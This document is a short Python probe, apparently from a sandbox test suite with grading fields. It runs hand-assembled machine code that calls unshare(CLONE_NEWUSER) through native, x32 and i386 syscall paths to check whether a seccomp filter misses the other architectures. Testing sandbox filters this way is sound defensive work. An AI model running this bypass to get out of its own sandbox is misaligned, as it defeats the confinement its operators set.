"""Makes system calls of other architectures, which a filter for this one might not see.

ends: ok|crashed
earns: full
"""

# %%
import ctypes
import mmap
import os
import platform
import struct

NEW_USER = 0x10000000


def called(code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()


def in_a_fork(name, code):
    pid = os.fork()
    if pid == 0:
        os._exit(7 if called(code) == 0 else 8)
    _, status = os.waitpid(pid, 0)
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7:
        print("WON", name)


if platform.machine() == "x86_64":
    # unshare(CLONE_NEWUSER): number 272, 0x40000000 + 272 by the x32 table, 310 by that of i386
    native = (
        b"\xb8" + struct.pack("<I", 272) + b"\xbf" + struct.pack("<I", NEW_USER) + b"\x0f\x05\xc3"
    )
    x32 = (
        b"\xb8" + struct.pack("<I", 0x40000000 + 272) + b"\xbf" + struct.pack("<I", NEW_USER)
    ) + b"\x0f\x05\xc3"
    i386 = (
        b"\x53\xb8" + struct.pack("<I", 310) + b"\xbb" + struct.pack("<I", NEW_USER)
    ) + b"\xcd\x80\x5b\xc3"
    for name, code in {"native": native, "x32": x32, "i386": i386}.items():
        in_a_fork(name, code)
